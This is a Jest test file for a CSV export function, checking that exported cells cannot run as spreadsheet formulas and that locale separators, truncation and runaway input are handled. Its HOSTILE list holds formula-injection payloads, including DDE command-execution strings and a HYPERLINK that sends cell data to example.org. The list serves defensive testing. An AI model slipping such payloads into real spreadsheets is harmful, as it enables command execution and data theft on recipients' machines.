import { describe, expect, it } from '@jest/globals'
import { csvSeparator, writeCsv } from '../../../src/desk/export/write-csv.js'
import { watchForRunaway } from '../../helpers/run-away.js'

/**
 * As a spreadsheet takes a file apart: a quote counts where a cell begins, two of them are one, and what follows the closing
 * one still belongs to the cell.
 */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  let isBeginning = true
  for (let i = 0; i < text.length; i++) {
    const one = text.charAt(i)
    if (isQuoted) {
      if (one !== '"') cell += one
      else if (text[i + 1] === '"') cell += text.charAt(i++)
      else isQuoted = false
    } else if (one === '"' && isBeginning) {
      isQuoted = true
      isBeginning = false
    } else if (one === separator || one === '\n') {
      rows.at(-1)?.push(cell)
      cell = ''
      isBeginning = true
      if (one === '\n') rows.push([])
    } else if (one !== '\r') {
      cell += one
      isBeginning = false
    }
  }
  return rows.slice(0, -1)
}

/** A spreadsheet that passes over blanks and quotes would take this for a formula. */
const isFormula = (cell: string): boolean => /^["“”„«»‘’\s]*[=+\-@＝＋－＠﹦﹢﹣﹫]/.test(cell)

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://example.org?"&A1,"ver")',
  '=IMPORTXML("http://example.org","//a")',
  '=WEBSERVICE("http://example.org")',
  "+cmd|'/c calc'!A0",
  "-2+3+cmd|'/c calc'!A0",
  "@SUM(1+9)*cmd|'/c calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  '“=1+1',
  '«=1+1',
  '" =1+1',
  ' " = 1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '﹣1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u2066=1+1\u2069',
  '\u00ad=1+1',
  '\u0000=1+1',
  '\u001b=1+1',
  '\u2028=1+1',
  '\u2029=1+1',
  '\u0085=1+1',
  'x,=1+1',
  'x;=1+1',
  'x\t=1+1',
  'x\n=1+1',
  'x\n\n=1+1',
  'x\n \n =1+1',
  'x,"=1+1',
  'x,""=1+1,""y',
  'x;";=1+1;"',
  '";=1+1;"',
  '",=1+1,"',
  '"\n=1+1\n"',
  '"\r\n=1+1,=2,=3;=4\t=5\n=6',
  "x,=cmd|'/c calc'!A0,y",
  'x;\u202e\u200b =1+1',
  ',=1',
  ';;;;=1',
  ',\n;=1',
  '\n\n\n=1',
]

describe('a table for a spreadsheet', () => {
  it('has enough hostile cells to try', () => {
    expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(40)
  })

  it.each(HOSTILE)('makes no formula of %j, whichever separator the spreadsheet takes', (cell) => {
    for (const separator of [',', ';'] as const) {
      // At the beginning of a row, and inside one.
      const text = writeCsv(
        ['uno', 'dos'],
        [
          [cell, 'a'],
          ['a', cell, 7],
        ],
        separator,
      )
      for (const taken of [',', ';', '\t', '|']) {
        const cells = parseCsv(text.slice(1), taken).flat()
        expect(cells.filter(isFormula)).toEqual([])
      }
      const right = parseCsv(text.slice(1), separator)
      expect(right.map(({ length }) => length)).toEqual([2, 2, 3])
      expect(right[1]?.[0]).toBe(right[2]?.[1])
    }
  })

  it('puts an apostrophe in front of what begins like a formula', () => {
    const text = writeCsv(['a'], [['=1'], [' =1'], ['"=1'], ['\n=1'], ['a, -b'], ['- a\n- b']], ',')
    expect(parseCsv(text.slice(1), ',').flat()).toEqual([
      ...['a', "'=1", "' =1", `'"=1`, "'\n'=1", "a,' -b", "'- a\n'- b"],
    ])
  })

  it.each([
    ['Nos pagaban 300 de 4.000, y ya.', 'Nos pagaban 300 de 4.000, y ya.'],
    ['dijo "no"; y se fue', 'dijo "no"; y se fue'],
    ['uno\r\ndos\rtres\ncuatro', 'uno\ndos\ntres\ncuatro'],
    ['a\tb', 'a b'],
    ['a-b=c+d@e', 'a-b=c+d@e'],
    ['ñandú 🛂 中', 'ñandú 🛂 中'],
    ['pho\u202egpj.exe\u0007', 'phogpj.exe'],
    ['', ''],
    ['7ZKX-0V3M-A1QD-99TP', '7ZKX-0V3M-A1QD-99TP'],
  ])('gives %j back as %j', (cell, back) => {
    for (const separator of [',', ';'] as const) {
      const text = writeCsv(['a', 'b'], [[cell, cell]], separator)
      expect(parseCsv(text.slice(1), separator)[1]).toEqual([back, back])
    }
  })

  it('begins with the mark by which Excel knows UTF-8, and ends its lines as Excel does', () => {
    expect(writeCsv(['País', 'n'], [['Perú', 3]], ';')).toBe('\ufeff"País";"n"\r\n"Perú";3\r\n')
  })

  it('leaves its own numbers numbers, below zero too', () => {
    expect(writeCsv(['n'], [[-5], [0], [12]], ',')).toBe('\ufeff"n"\r\n-5\r\n0\r\n12\r\n')
  })

  it('has decimals as the spreadsheet reads them that takes its separator', () => {
    expect(writeCsv(['n'], [[12.5, 3]], ';')).toBe('\ufeff"n"\r\n12,5;3\r\n')
    expect(writeCsv(['n'], [[12.5, 3]], ',')).toBe('\ufeff"n"\r\n12.5,3\r\n')
  })

  it('takes the separator that Excel takes in that language', () => {
    expect([csvSeparator('es'), csvSeparator('pt'), csvSeparator('en')]).toEqual([';', ';', ','])
  })

  it('cuts a cell before Excel would go on in the next one, and cuts no character in two', () => {
    for (const long of ['=1,'.repeat(20_000), '🛂'.repeat(20_000), `x${'🛂'.repeat(20_000)}`]) {
      const [cell = ''] = parseCsv(writeCsv(['a'], [[long]], ',').slice(1), ',')[1] ?? []
      expect(cell.length).toBeLessThanOrEqual(32_767)
      expect(cell).toMatch(/…$/)
      expect(cell).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/)
    }
  })

  it.each(['\n', ' ', '"', ',', '=', ',=', '\u202e', '" '])(
    'is done at once with a million times %j',
    (piece) => {
      const hasRunAway = watchForRunaway()
      writeCsv(['a'], [[piece.repeat(1_000_000)]], ',')
      expect(hasRunAway()).toBe(false)
    },
  )
})
